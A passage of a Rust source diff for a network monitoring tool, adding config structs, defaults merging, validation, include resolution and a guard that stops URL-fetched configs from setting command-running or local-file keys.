+pub struct MqttSettings {
+    pub host: String,
+    pub port: u16,
+    pub tls: bool,
+    pub username: Option<String>,
+    pub password: Option<Secret>,
+    /// `icmpmolester-<hostname>` when not set.
+    pub client_id: Option<String>,
+    pub topic_prefix: String,
+    pub retain: bool,
+}
+
+/// Resolved `[output.syslog]` table.
+#[derive(Debug, Clone, PartialEq)]
+pub struct SyslogSettings {
+    pub transport: SyslogTransport,
+    /// Facility code, e.g. 3 for `daemon`.
+    pub facility: u8,
+    pub ident: String,
+    pub socket: PathBuf,
+}
+
+/// Where an `[output.syslog]` sink sends its messages.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Deserialize)]
+#[serde(rename_all = "lowercase")]
+pub enum SyslogTransport {
+    /// RFC 3164 datagrams to the local syslog daemon.
+    #[default]
+    Syslog,
+    /// The systemd journal's native protocol, with the line, target and
+    /// status as fields of their own.
+    Journald,
+}
+
+impl SyslogTransport {
+    fn default_socket(self) -> &'static str {
+        match self {
+            SyslogTransport::Syslog => "/dev/log",
+            SyslogTransport::Journald => "/run/systemd/journal/socket",
+        }
+    }
+}
+
+/// Resolved `[output.graphite]` table.
+#[derive(Debug, Clone, PartialEq)]
+pub struct GraphiteSettings {
+    pub host: String,
+    pub port: u16,
+    pub prefix: String,
+}
+
+/// Resolved `[output.influxdb]` table.
+#[derive(Debug, Clone, PartialEq)]
+pub struct InfluxDbSettings {
+    /// Server base URL, without a trailing slash.
+    pub url: String,
+    pub destination: InfluxDbDestination,
+    pub measurement: String,
+    pub token: Option<Secret>,
+}
+
+/// Which write API an InfluxDB sink uses.
+#[derive(Debug, Clone, PartialEq)]
+pub enum InfluxDbDestination {
+    /// InfluxDB 2.x: `org` may be left to the token's default.
+    Bucket { bucket: String, org: Option<String> },
+    /// InfluxDB 1.x.
+    Database(String),
+}
+
+/// How a run's results are printed.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize, ValueEnum)]
+#[serde(rename_all = "lowercase")]
+pub enum OutputFormat {
+    /// Human-readable summary.
+    Text,
+    /// The JSON run report, as served by `serve`.
+    Json,
+    /// One CSV row of metrics per line, for appending to a spreadsheet.
+    Csv,
+    /// A Markdown table for pasting into issues and wikis.
+    Markdown,
+    /// One JSON object per line, printed as soon as the line finishes.
+    Ndjson,
+}
+
+/// Invocation settings from the configs' `[run]` tables; flags take precedence.
+#[derive(Debug, Default, Clone, PartialEq)]
+pub struct RunSettings {
+    pub concurrency: Option<usize>,
+    pub timeout: Option<Duration>,
+    pub skip_traceroute: Option<bool>,
+    pub notify_only_on_alert: Option<bool>,
+    pub output: Option<OutputFormat>,
+    pub history: Option<PathBuf>,
+}
+
+/// A file pulled in through `include`. Its lines use the including file's
+/// defaults, so it may only add lines and statuses.
+#[derive(Debug, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct ConfigFragment {
+    #[serde(default)]
+    lines: Vec<LineConfig>,
+    #[serde(default)]
+    statuses: Vec<CustomStatus>,
+}
+
+#[derive(Debug, Deserialize, Default)]
+struct LineDefaults {
+    #[serde(default)]
+    checks: Option<Vec<CheckKind>>,
+    #[serde(default)]
+    ping_count: Option<u32>,
+    #[serde(default)]
+    ping_timeout_ms: Option<u64>,
+    #[serde(default)]
+    ping_deadline_ms: Option<u64>,
+    #[serde(default)]
+    retries: Option<u32>,
+    #[serde(default)]
+    retry_delay_ms: Option<u64>,
+    #[serde(default)]
+    confirm_probes: Option<u32>,
+    #[serde(default)]
+    confirm_required: Option<u32>,
+    #[serde(default)]
+    traceroute_max_hops: Option<u8>,
+    #[serde(default)]
+    mtr_cycles: Option<u32>,
+    #[serde(default)]
+    hop_loss_alert_pct: Option<f32>,
+    #[serde(default)]
+    hop_loss_overrides: Option<Vec<HopLossOverride>>,
+    #[serde(default)]
+    resolve_hops: Option<bool>,
+    #[serde(default)]
+    hop_resolve_timeout_ms: Option<u64>,
+    #[serde(default)]
+    hop_enrichment: Option<HopEnrichment>,
+    #[serde(default)]
+    maxmind_asn_db: Option<PathBuf>,
+    #[serde(default)]
+    maxmind_country_db: Option<PathBuf>,
+    #[serde(default)]
+    route_hop_tolerance: Option<u32>,
+    #[serde(default)]
+    packet_loss_alert_threshold: Option<f32>,
+    #[serde(default)]
+    duplicate_alert_count: Option<u32>,
+    #[serde(default)]
+    reorder_alert_count: Option<u32>,
+    #[serde(default)]
+    dual_stack: Option<bool>,
+    #[serde(default)]
+    dual_stack_delta_alert_ms: Option<f32>,
+    #[serde(default)]
+    tls_timeout_ms: Option<u64>,
+    #[serde(default)]
+    tls_expiry_alert_days: Option<u32>,
+    #[serde(default)]
+    ntp_server: Option<String>,
+    #[serde(default)]
+    ntp_timeout_ms: Option<u64>,
+    #[serde(default)]
+    ntp_offset_alert_ms: Option<f32>,
+    #[serde(default)]
+    doh_resolvers: Option<Vec<String>>,
+    #[serde(default)]
+    dot_resolvers: Option<Vec<String>>,
+    #[serde(default)]
+    dns_query_name: Option<String>,
+    #[serde(default)]
+    dns_timeout_ms: Option<u64>,
+    #[serde(default)]
+    dns_latency_alert_ms: Option<f32>,
+    #[serde(default)]
+    http_expected_status: Option<u16>,
+    #[serde(default)]
+    http_timeout_ms: Option<u64>,
+    #[serde(default)]
+    http_latency_alert_ms: Option<f32>,
+    #[serde(default)]
+    custom_timeout_ms: Option<u64>,
+    #[serde(default)]
+    public_ip_url: Option<String>,
+    #[serde(default)]
+    public_ip_timeout_ms: Option<u64>,
+    #[serde(default)]
+    cgnat_alert: Option<bool>,
+    #[serde(default)]
+    disable_after_errors: Option<u32>,
+    #[serde(default)]
+    alert_after_failures: Option<u32>,
+    #[serde(default)]
+    flap_threshold: Option<u32>,
+    #[serde(default)]
+    flap_window_minutes: Option<u32>,
+    #[serde(default)]
+    runbook_url: Option<String>,
+    #[serde(default)]
+    discord_webhook: Option<String>,
+    #[serde(default)]
+    weight: Option<f32>,
+    #[serde(default)]
+    schedule: Option<Schedule>,
+}
+
+#[derive(Debug, Deserialize, Default)]
+struct LineConfig {
+    name: String,
+    #[serde(default)]
+    target: String,
+    /// Alternative to `target`: tried in order until one does not alert.
+    #[serde(default)]
+    targets: Vec<String>,
+    #[serde(default)]
+    checks: Option<Vec<CheckKind>>,
+    #[serde(default)]
+    ping_count: Option<u32>,
+    #[serde(default)]
+    ping_timeout_ms: Option<u64>,
+    #[serde(default)]
+    ping_deadline_ms: Option<u64>,
+    #[serde(default)]
+    retries: Option<u32>,
+    #[serde(default)]
+    retry_delay_ms: Option<u64>,
+    #[serde(default)]
+    confirm_probes: Option<u32>,
+    #[serde(default)]
+    confirm_required: Option<u32>,
+    #[serde(default)]
+    traceroute_max_hops: Option<u8>,
+    #[serde(default)]
+    mtr_cycles: Option<u32>,
+    #[serde(default)]
+    hop_loss_alert_pct: Option<f32>,
+    #[serde(default)]
+    hop_loss_overrides: Option<Vec<HopLossOverride>>,
+    #[serde(default)]
+    resolve_hops: Option<bool>,
+    #[serde(default)]
+    hop_resolve_timeout_ms: Option<u64>,
+    #[serde(default)]
+    hop_enrichment: Option<HopEnrichment>,
+    #[serde(default)]
+    maxmind_asn_db: Option<PathBuf>,
+    #[serde(default)]
+    maxmind_country_db: Option<PathBuf>,
+    #[serde(default)]
+    route_hop_tolerance: Option<u32>,
+    #[serde(default)]
+    packet_loss_alert_threshold: Option<f32>,
+    #[serde(default)]
+    duplicate_alert_count: Option<u32>,
+    #[serde(default)]
+    reorder_alert_count: Option<u32>,
+    #[serde(default)]
+    dual_stack: Option<bool>,
+    #[serde(default)]
+    dual_stack_delta_alert_ms: Option<f32>,
+    #[serde(default)]
+    tls_endpoint: Option<String>,
+    #[serde(default)]
+    expected_gateway: Option<IpAddr>,
+    #[serde(default)]
+    tls_timeout_ms: Option<u64>,
+    #[serde(default)]
+    tls_expiry_alert_days: Option<u32>,
+    #[serde(default)]
+    ntp_server: Option<String>,
+    #[serde(default)]
+    ntp_timeout_ms: Option<u64>,
+    #[serde(default)]
+    ntp_offset_alert_ms: Option<f32>,
+    #[serde(default)]
+    doh_resolvers: Option<Vec<String>>,
+    #[serde(default)]
+    dot_resolvers: Option<Vec<String>>,
+    #[serde(default)]
+    dns_query_name: Option<String>,
+    #[serde(default)]
+    dns_timeout_ms: Option<u64>,
+    #[serde(default)]
+    dns_latency_alert_ms: Option<f32>,
+    #[serde(default)]
+    http_url: Option<String>,
+    #[serde(default)]
+    http_expected_status: Option<u16>,
+    #[serde(default)]
+    http_timeout_ms: Option<u64>,
+    #[serde(default)]
+    http_latency_alert_ms: Option<f32>,
+    /// Command run as the custom check, e.g.
+    /// `/usr/local/bin/check_vdsl.sh {target}`.
+    #[serde(default)]
+    custom_command: Option<String>,
+    #[serde(default)]
+    custom_timeout_ms: Option<u64>,
+    #[serde(default)]
+    public_ip_url: Option<String>,
+    #[serde(default)]
+    public_ip_timeout_ms: Option<u64>,
+    #[serde(default)]
+    source_address: Option<IpAddr>,
+    #[serde(default)]
+    wan_address: Option<IpAddr>,
+    #[serde(default)]
+    cgnat_alert: Option<bool>,
+    #[serde(default)]
+    disable_after_errors: Option<u32>,
+    #[serde(default)]
+    alert_after_failures: Option<u32>,
+    #[serde(default)]
+    flap_threshold: Option<u32>,
+    #[serde(default)]
+    flap_window_minutes: Option<u32>,
+    #[serde(default)]
+    depends_on: Option<String>,
+    #[serde(default)]
+    note: Option<String>,
+    #[serde(default)]
+    runbook_url: Option<String>,
+    #[serde(default)]
+    discord_webhook: Option<String>,
+    #[serde(default)]
+    weight: Option<f32>,
+    #[serde(default)]
+    tags: Vec<String>,
+    #[serde(default)]
+    schedule: Option<Schedule>,
+    #[serde(default)]
+    enabled: Option<bool>,
+    #[serde(default)]
+    snooze_until: Option<DateTime<Utc>>,
+}
+
+impl LineDefaults {
+    fn apply(&self, line: &LineConfig) -> LineSettings {
+        let (target, fallback_targets) = match line.targets.split_first() {
+            Some((first, rest)) if line.target.is_empty() => (first.clone(), rest.to_vec()),
+            _ => (line.target.clone(), Vec::new()),
+        };
+        let confirm_probes = line.confirm_probes.or(self.confirm_probes);
+        let mut settings = LineSettings {
+            name: line.name.clone(),
+            target,
+            fallback_targets,
+            checks: Vec::new(),
+            ping_count: line
+                .ping_count
+                .or(self.ping_count)
+                .unwrap_or(DEFAULT_PING_COUNT),
+            ping_timeout_ms: line
+                .ping_timeout_ms
+                .or(self.ping_timeout_ms)
+                .unwrap_or(DEFAULT_PING_TIMEOUT_MS),
+            ping_deadline_ms: line.ping_deadline_ms.or(self.ping_deadline_ms),
+            retries: line.retries.or(self.retries).unwrap_or_default(),
+            retry_delay_ms: line
+                .retry_delay_ms
+                .or(self.retry_delay_ms)
+                .unwrap_or(DEFAULT_RETRY_DELAY_MS),
+            confirm_probes,
+            confirm_required: line
+                .confirm_required
+                .or(self.confirm_required)
+                .or(confirm_probes.map(|probes| probes / 2 + 1))
+                .unwrap_or_default(),
+            traceroute_max_hops: line
+                .traceroute_max_hops
+                .or(self.traceroute_max_hops)
+                .unwrap_or(DEFAULT_TRACEROUTE_MAX_HOPS),
+            mtr_cycles: line.mtr_cycles.or(self.mtr_cycles),
+            hop_loss: HopLossPolicy {
+                alert_pct: line
+                    .hop_loss_alert_pct
+                    .or(self.hop_loss_alert_pct)
+                    .or(line.packet_loss_alert_threshold)
+                    .or(self.packet_loss_alert_threshold)
+                    .unwrap_or(DEFAULT_PACKET_LOSS_ALERT_THRESHOLD),
+                overrides: line
+                    .hop_loss_overrides
+                    .as_ref()
+                    .or(self.hop_loss_overrides.as_ref())
+                    .into_iter()
+                    .flatten()
+                    .map(|entry| (entry.hop, entry.alert_pct))
+                    .collect(),
+            },
+            resolve_hops: line.resolve_hops.or(self.resolve_hops).unwrap_or(false),
+            hop_resolve_timeout_ms: line
+                .hop_resolve_timeout_ms
+                .or(self.hop_resolve_timeout_ms)
+                .unwrap_or(DEFAULT_HOP_RESOLVE_TIMEOUT_MS),
+            hop_enrichment: line.hop_enrichment.or(self.hop_enrichment),
+            maxmind_asn_db: line
+                .maxmind_asn_db
+                .clone()
+                .or_else(|| self.maxmind_asn_db.clone()),
+            maxmind_country_db: line
+                .maxmind_country_db
+                .clone()
+                .or_else(|| self.maxmind_country_db.clone()),
+            route_hop_tolerance: line.route_hop_tolerance.or(self.route_hop_tolerance),
+            expected_gateway: line.expected_gateway,
+            packet_loss_alert_threshold: line
+                .packet_loss_alert_threshold
+                .or(self.packet_loss_alert_threshold)
+                .unwrap_or(DEFAULT_PACKET_LOSS_ALERT_THRESHOLD),
+            duplicate_alert_count: line.duplicate_alert_count.or(self.duplicate_alert_count),
+            reorder_alert_count: line.reorder_alert_count.or(self.reorder_alert_count),
+            dual_stack: line.dual_stack.or(self.dual_stack).unwrap_or(false),
+            dual_stack_delta_alert_ms: line
+                .dual_stack_delta_alert_ms
+                .or(self.dual_stack_delta_alert_ms),
+            tls_endpoint: line.tls_endpoint.clone(),
+            tls_timeout_ms: line
+                .tls_timeout_ms
+                .or(self.tls_timeout_ms)
+                .unwrap_or(DEFAULT_TLS_TIMEOUT_MS),
+            tls_expiry_alert_days: line
+                .tls_expiry_alert_days
+                .or(self.tls_expiry_alert_days)
+                .unwrap_or(DEFAULT_TLS_EXPIRY_ALERT_DAYS),
+            ntp_server: line.ntp_server.clone().or_else(|| self.ntp_server.clone()),
+            ntp_timeout_ms: line
+                .ntp_timeout_ms
+                .or(self.ntp_timeout_ms)
+                .unwrap_or(DEFAULT_NTP_TIMEOUT_MS),
+            ntp_offset_alert_ms: line
+                .ntp_offset_alert_ms
+                .or(self.ntp_offset_alert_ms)
+                .unwrap_or(DEFAULT_NTP_OFFSET_ALERT_MS),
+            doh_resolvers: line
+                .doh_resolvers
+                .clone()
+                .or_else(|| self.doh_resolvers.clone())
+                .unwrap_or_default(),
+            dot_resolvers: line
+                .dot_resolvers
+                .clone()
+                .or_else(|| self.dot_resolvers.clone())
+                .unwrap_or_default(),
+            dns_query_name: line
+                .dns_query_name
+                .clone()
+                .or_else(|| self.dns_query_name.clone())
+                .unwrap_or_else(|| DEFAULT_DNS_QUERY_NAME.to_string()),
+            dns_timeout_ms: line
+                .dns_timeout_ms
+                .or(self.dns_timeout_ms)
+                .unwrap_or(DEFAULT_DNS_TIMEOUT_MS),
+            dns_latency_alert_ms: line
+                .dns_latency_alert_ms
+                .or(self.dns_latency_alert_ms)
+                .unwrap_or(DEFAULT_DNS_LATENCY_ALERT_MS),
+            http_url: line.http_url.clone(),
+            http_expected_status: line.http_expected_status.or(self.http_expected_status),
+            http_timeout_ms: line
+                .http_timeout_ms
+                .or(self.http_timeout_ms)
+                .unwrap_or(DEFAULT_HTTP_TIMEOUT_MS),
+            http_latency_alert_ms: line
+                .http_latency_alert_ms
+                .or(self.http_latency_alert_ms)
+                .unwrap_or(DEFAULT_HTTP_LATENCY_ALERT_MS),
+            custom_command: line.custom_command.clone(),
+            custom_timeout_ms: line
+                .custom_timeout_ms
+                .or(self.custom_timeout_ms)
+                .unwrap_or(DEFAULT_CUSTOM_TIMEOUT_MS),
+            public_ip_url: line
+                .public_ip_url
+                .clone()
+                .or_else(|| self.public_ip_url.clone()),
+            public_ip_timeout_ms: line
+                .public_ip_timeout_ms
+                .or(self.public_ip_timeout_ms)
+                .unwrap_or(DEFAULT_PUBLIC_IP_TIMEOUT_MS),
+            source_address: line.source_address,
+            wan_address: line.wan_address,
+            cgnat_alert: line.cgnat_alert.or(self.cgnat_alert).unwrap_or(false),
+            disable_after_errors: line.disable_after_errors.or(self.disable_after_errors),
+            alert_after_failures: line.alert_after_failures.or(self.alert_after_failures),
+            flap_threshold: line.flap_threshold.or(self.flap_threshold),
+            flap_window_minutes: line
+                .flap_window_minutes
+                .or(self.flap_window_minutes)
+                .unwrap_or(DEFAULT_FLAP_WINDOW_MINUTES),
+            depends_on: line.depends_on.clone(),
+            note: line.note.clone(),
+            runbook_url: line
+                .runbook_url
+                .clone()
+                .or_else(|| self.runbook_url.clone()),
+            discord_webhook: line
+                .discord_webhook
+                .clone()
+                .or_else(|| self.discord_webhook.clone()),
+            weight: line.weight.or(self.weight).unwrap_or(DEFAULT_LINE_WEIGHT),
+            tags: line.tags.clone(),
+            schedule: line.schedule.clone().or_else(|| self.schedule.clone()),
+            enabled: line.enabled.unwrap_or(true),
+            snooze_until: line.snooze_until,
+        };
+        settings.checks = line
+            .checks
+            .clone()
+            .or_else(|| self.checks.clone())
+            .unwrap_or_else(|| implied_checks(&settings));
+        settings
+    }
+}
+
+impl LineSettings {
+    /// Stable digest of every setting, used to notice that a line's config changed.
+    pub fn fingerprint(&self) -> u64 {
+        let mut hasher = DefaultHasher::new();
+        format!("{self:?}").hash(&mut hasher);
+        hasher.finish()
+    }
+}
+
+#[cfg(test)]
+impl LineSettings {
+    /// Settings with every built-in default applied, for tests in other modules.
+    pub fn with_defaults(name: &str, target: &str) -> Self {
+        LineDefaults::default().apply(&LineConfig {
+            name: name.into(),
+            target: target.into(),
+            ..LineConfig::default()
+        })
+    }
+}
+
+/// Checks run when a line does not list them explicitly: ping and traceroute,
+/// plus every optional probe that has a target configured.
+fn implied_checks(line: &LineSettings) -> Vec<CheckKind> {
+    let mut checks = vec![CheckKind::Ping, CheckKind::Traceroute];
+    if line.tls_endpoint.is_some() {
+        checks.push(CheckKind::Tls);
+    }
+    if line.ntp_server.is_some() {
+        checks.push(CheckKind::Ntp);
+    }
+    if !line.doh_resolvers.is_empty() || !line.dot_resolvers.is_empty() {
+        checks.push(CheckKind::Dns);
+    }
+    if line.http_url.is_some() {
+        checks.push(CheckKind::Http);
+    }
+    if line.public_ip_url.is_some() {
+        checks.push(CheckKind::PublicIp);
+    }
+    if line.dual_stack {
+        checks.push(CheckKind::DualStack);
+    }
+    if line.custom_command.is_some() {
+        checks.push(CheckKind::Custom);
+    }
+    checks
+}
+
+/// Ensure a line names its target exactly one way.
+fn validate_targets(line: &LineConfig) -> Result<()> {
+    match (line.target.is_empty(), line.targets.is_empty()) {
+        (true, true) => anyhow::bail!("Line '{}' sets no target or targets", line.name),
+        (false, false) => anyhow::bail!(
+            "Line '{}' sets both target and targets; list every target in targets",
+            line.name
+        ),
+        _ => Ok(()),
+    }
+}
+
+/// Ensure every enabled check has the settings it needs.
+fn validate_checks(line: &LineSettings) -> Result<()> {
+    if line.checks.is_empty() {
+        anyhow::bail!("Line '{}' runs no checks", line.name);
+    }
+    for (index, check) in line.checks.iter().enumerate() {
+        if line.checks[..index].contains(check) {
+            anyhow::bail!(
+                "Line '{}' lists the {} check more than once",
+                line.name,
+                check.as_str()
+            );
+        }
+        let missing = match check {
+            CheckKind::Ping | CheckKind::Traceroute | CheckKind::DualStack => None,
+            CheckKind::Tls => line.tls_endpoint.is_none().then_some("tls_endpoint"),
+            CheckKind::Ntp => line.ntp_server.is_none().then_some("ntp_server"),
+            CheckKind::Dns => (line.doh_resolvers.is_empty() && line.dot_resolvers.is_empty())
+                .then_some("doh_resolvers or dot_resolvers"),
+            CheckKind::Http => line.http_url.is_none().then_some("http_url"),
+            CheckKind::PublicIp => line.public_ip_url.is_none().then_some("public_ip_url"),
+            CheckKind::Custom => line
+                .custom_command
+                .as_deref()
+                .is_none_or(|command| command.trim().is_empty())
+                .then_some("custom_command"),
+        };
+        if let Some(field) = missing {
+            anyhow::bail!(
+                "Line '{}' enables the {} check but sets no {field}",
+                line.name,
+                check.as_str()
+            );
+        }
+    }
+    if line.retries > MAX_RETRIES {
+        anyhow::bail!(
+            "Line '{}' sets retries to {}; it must be at most {MAX_RETRIES}",
+            line.name,
+            line.retries
+        );
+    }
+    match line.confirm_probes {
+        Some(0) => anyhow::bail!("Line '{}' sets confirm_probes to 0", line.name),
+        Some(probes) if probes > MAX_CONFIRM_PROBES => anyhow::bail!(
+            "Line '{}' sets confirm_probes to {probes}; it must be at most {MAX_CONFIRM_PROBES}",
+            line.name
+        ),
+        Some(probes) if !(1..=probes).contains(&line.confirm_required) => anyhow::bail!(
+            "Line '{}' sets confirm_required to {}; it must be between 1 and confirm_probes ({probes})",
+            line.name,
+            line.confirm_required
+        ),
+        None if line.confirm_required > 0 => anyhow::bail!(
+            "Line '{}' sets confirm_required without confirm_probes",
+            line.name
+        ),
+        _ => {}
+    }
+    if line.mtr_cycles == Some(0) {
+        anyhow::bail!("Line '{}' sets mtr_cycles to 0", line.name);
+    }
+    if line.disable_after_errors == Some(0) {
+        anyhow::bail!("Line '{}' sets disable_after_errors to 0", line.name);
+    }
+    if line.alert_after_failures == Some(0) {
+        anyhow::bail!("Line '{}' sets alert_after_failures to 0", line.name);
+    }
+    if let Some(threshold) = line.flap_threshold {
+        if !(1..MAX_RECENT_TRANSITIONS as u32).contains(&threshold) {
+            anyhow::bail!(
+                "Line '{}' sets flap_threshold to {threshold}; it must be between 1 and {}",
+                line.name,
+                MAX_RECENT_TRANSITIONS - 1
+            );
+        }
+    }
+    if line.flap_window_minutes == 0 {
+        anyhow::bail!("Line '{}' sets flap_window_minutes to 0", line.name);
+    }
+    if !line.weight.is_finite() || line.weight < 0.0 {
+        anyhow::bail!(
+            "Line '{}' sets weight to {}; it must be zero or more",
+            line.name,
+            line.weight
+        );
+    }
+    Ok(())
+}
+
+/// Ensure the MaxMind enrichment source can actually be used by this build.
+fn validate_enrichment(line: &LineSettings) -> Result<()> {
+    if line.hop_enrichment != Some(HopEnrichment::Maxmind) {
+        return Ok(());
+    }
+    if !cfg!(feature = "maxmind") {
+        anyhow::bail!(
+            "Line '{}' uses maxmind hop enrichment but this build lacks the `maxmind` feature",
+            line.name
+        );
+    }
+    if line.maxmind_asn_db.is_none() && line.maxmind_country_db.is_none() {
+        anyhow::bail!(
+            "Line '{}' uses maxmind hop enrichment but sets neither maxmind_asn_db nor maxmind_country_db",
+            line.name
+        );
+    }
+    Ok(())
+}
+
+/// Reject custom statuses that shadow a built-in one or can never match.
+fn validate_status(status: &CustomStatus) -> Result<()> {
+    let name = status.name.trim();
+    if name.is_empty() {
+        anyhow::bail!("Custom statuses need a non-empty name");
+    }
+    if ["OK", "ALERT", "UNKNOWN"].contains(&name.to_uppercase().as_str()) {
+        anyhow::bail!("Custom status '{name}' clashes with a built-in status");
+    }
+    if status.loss_above_pct.is_none() && status.latency_above_ms.is_none() {
+        anyhow::bail!("Custom status '{name}' sets neither loss_above_pct nor latency_above_ms");
+    }
+    Ok(())
+}
+
+/// Every `depends_on` must name another line of the config, and following
+/// them must never lead back to a line already visited.
+fn validate_dependencies(lines: &[LineSettings]) -> Result<()> {
+    let dependencies: BTreeMap<&str, &str> = lines
+        .iter()
+        .filter_map(|line| Some((line.name.as_str(), line.depends_on.as_deref()?)))
+        .collect();
+    for (&name, &dependency) in &dependencies {
+        if !lines.iter().any(|line| line.name == dependency) {
+            anyhow::bail!(
+                "Line '{name}' depends on '{dependency}', which is not a line of this config"
+            );
+        }
+        let mut chain = vec![name];
+        let mut next = Some(dependency);
+        while let Some(current) = next {
+            chain.push(current);
+            if current == name {
+                anyhow::bail!(
+                    "Lines depend on each other in a cycle: {}",
+                    chain.join(" -> ")
+                );
+            }
+            next = dependencies.get(current).copied();
+            if chain.len() > dependencies.len() + 1 {
+                break;
+            }
+        }
+    }
+    Ok(())
+}
+
+/// Ping-only line for the default gateway, so LAN and WAN failures can be told apart.
+fn gateway_line(defaults: &LineDefaults, gateway: &str) -> LineSettings {
+    defaults.apply(&LineConfig {
+        name: GATEWAY_LINE_NAME.into(),
+        target: gateway.into(),
+        checks: Some(vec![CheckKind::Ping]),
+        ..LineConfig::default()
+    })
+}
+
+/// A file named by `--config`: a local path, or the cached copy of a URL.
+#[derive(Debug, Clone, PartialEq)]
+pub struct ConfigSource {
+    pub path: PathBuf,
+    /// Downloaded from a `--config` URL rather than read from disk.
+    pub remote: bool,
+}
+
+impl ConfigSource {
+    /// Read and parse the file.
+    pub fn read(&self) -> Result<ConfigFile> {
+        let path = &self.path;
+        let raw = fs::read_to_string(path)
+            .with_context(|| format!("Failed to read config from {}", path.display()))?;
+        let (parsed, unknown) = parse_config(&raw, |name| std::env::var(name).ok())
+            .with_context(|| format!("Failed to parse TOML config at {}", path.display()))?;
+        if self.remote {
+            let keys = local_access_keys(&parsed);
+            if !keys.is_empty() {
+                anyhow::bail!(
+                    "Config {} was fetched from a URL and may not set {}; \
+                     set them in a local config",
+                    path.display(),
+                    keys.join(", ")
+                );
+            }
+        }
+        Ok(ConfigFile {
+            path: path.clone(),
+            parsed,
+            unknown,
+        })
+    }
+}
+
+/// A config file read and parsed once, so every loader of a run sees the
+/// same contents and a URL is fetched only once.
+#[derive(Debug)]
+pub struct ConfigFile {
+    pub path: PathBuf,
+    parsed: FileConfig,
+    /// Reported when the lines are loaded.
+    unknown: Vec<UnknownKey>,
+}
+
+impl ConfigFile {
+    /// Directory relative paths in the file are resolved against.
+    fn base(&self) -> &Path {
+        self.path.parent().unwrap_or(Path::new(""))
+    }
+}
+
+/// Keys set in `config` that run a command or name a local file. A config
+/// fetched from a URL may set none of them, so tampering with the download
+/// cannot run commands on the probe or read and write its files.
+fn local_access_keys(config: &FileConfig) -> Vec<String> {
+    let output = &config.output;
+    let mut keys: Vec<String> = [
+        (!config.include.is_empty(), "include"),
+        (config.email.password_file.is_some(), "email.password_file"),
+        (config.telegram.token_file.is_some(), "telegram.token_file"),
+        (config.matrix.token_file.is_some(), "matrix.token_file"),
+        (config.xmpp.password_file.is_some(), "xmpp.password_file"),
+        (config.run.history.is_some(), "run.history"),
+        (
+            config.defaults.maxmind_asn_db.is_some(),
+            "defaults.maxmind_asn_db",
+        ),
+        (
+            config.defaults.maxmind_country_db.is_some(),
+            "defaults.maxmind_country_db",
+        ),
+        (
+            output
+                .influxdb
+                .as_ref()
+                .is_some_and(|table| table.token_file.is_some()),
+            "output.influxdb.token_file",
+        ),
+        (
+            output
+                .mqtt
+                .as_ref()
+                .is_some_and(|table| table.password_file.is_some()),
+            "output.mqtt.password_file",
+        ),
+        (
+            output
+                .syslog
+                .as_ref()
+                .is_some_and(|table| table.socket.is_some()),
+            "output.syslog.socket",
+        ),
+    ]
+    .into_iter()
+    .filter(|(set, _)| *set)
+    .map(|(_, key)| key.to_string())
+    .collect();
+    for (index, line) in config.lines.iter().enumerate() {
+        for (set, key) in [
+            (line.custom_command.is_some(), "custom_command"),
+            (line.maxmind_asn_db.is_some(), "maxmind_asn_db"),
+            (line.maxmind_country_db.is_some(), "maxmind_country_db"),
+        ] {
+            if set {
+                keys.push(format!("lines[{index}].{key}"));
+            }
+        }
+    }
+    for (index, webhook) in config.notifications.webhook.iter().enumerate() {
+        if webhook.secret_file.is_some() {
+            keys.push(format!("notifications.webhook[{index}].secret_file"));
+        }
+    }
+    for (channel, template) in &config.notifications.templates {
+        if template.body_file.is_some() {
+            keys.push(format!("notifications.templates.{channel}.body_file"));
+        }
+    }
+    keys
+}
+
+/// Expand `--config` arguments: directories contribute their `*.toml` files
+/// in name order, URLs their freshly fetched cached copy, and files are used
+/// as given.
+pub fn expand_config_paths(paths: &[PathBuf]) -> Result<Vec<ConfigSource>> {
+    let mut expanded = Vec::new();
+    for path in paths {
+        if let Some(url) = remote::url(path) {
+            expanded.push(ConfigSource {
+                path: remote::fetch(url)?,
+                remote: true,
+            });
+            continue;
+        }
+        let files = if path.is_dir() {
+            let files = toml_files_in(path, |_| true)?;
+            if files.is_empty() {
+                anyhow::bail!("No .toml configs found in {}", path.display());
+            }
+            files
+        } else {
+            vec![path.clone()]
+        };
+        expanded.extend(files.into_iter().map(|path| ConfigSource {
+            path,
+            remote: false,
+        }));
+    }
+    Ok(expanded)
+}
+
+/// Expand `--config` arguments and read every config they name.
+pub fn read_configs(paths: &[PathBuf]) -> Result<Vec<ConfigFile>> {
+    expand_config_paths(paths)?
+        .iter()
+        .map(ConfigSource::read)
+        .collect()
+}
+
+/// The `.toml` files in `dir` whose names pass `keep`, in name order.
+fn toml_files_in(dir: &Path, keep: impl Fn(&str) -> bool) -> Result<Vec<PathBuf>> {
+    let mut files: Vec<PathBuf> = fs::read_dir(dir)
+        .with_context(|| format!("Failed to list config directory {}", dir.display()))?
+        .filter_map(|entry| entry.ok().map(|entry| entry.path()))
+        .filter(|file| file.is_file() && file.extension().is_some_and(|ext| ext == "toml"))
+        .filter(|file| {
+            file.file_name()
+                .and_then(|name| name.to_str())
+                .is_some_and(&keep)
+        })
+        .collect();
+    files.sort();
+    Ok(files)
+}
+
+/// Resolve `include` entries of the config at `path` into fragment files.
+///
+/// An entry is a file, a directory (all of its `*.toml` files) or a file
+/// name pattern with `*` and `?` such as `lines.d/*.toml`. Patterns and
+/// directories may match nothing, so an empty drop-in directory is fine.
+fn resolve_includes(path: &Path, includes: &[String]) -> Result<Vec<PathBuf>> {
+    let base = path
+        .parent()
+        .filter(|dir| !dir.as_os_str().is_empty())
+        .unwrap_or(Path::new("."));
+    let mut files = Vec::new();
+    for include in includes {
+        let target = base.join(include);
+        let name = target
+            .file_name()
+            .and_then(|name| name.to_str())
+            .unwrap_or_default();
+        if name.contains(['*', '?']) {
+            let dir = target.parent().unwrap_or(base);
+            if dir.to_string_lossy().contains(['*', '?']) {
+                anyhow::bail!(
+                    "Invalid include '{include}': wildcards are only supported in the file name"
+                );
+            }
+            files.extend(toml_files_in(dir, |file| wildcard_match(name, file))?);
+        } else if target.is_dir() {
+            files.extend(toml_files_in(&target, |_| true)?);
+        } else {
+            files.push(target);
+        }
+    }
+    Ok(files)
+}
+
+/// Match `text` against a pattern where `*` is any run of characters and `?`
+/// any single one.
+fn wildcard_match(pattern: &str, text: &str) -> bool {
+    let pattern: Vec<char> = pattern.chars().collect();
+    let text: Vec<char> = text.chars().collect();
+    let (mut p, mut t) = (0, 0);
+    // Position after the last `*` and the text index it is currently matched up to.
+    let mut backtrack = None;
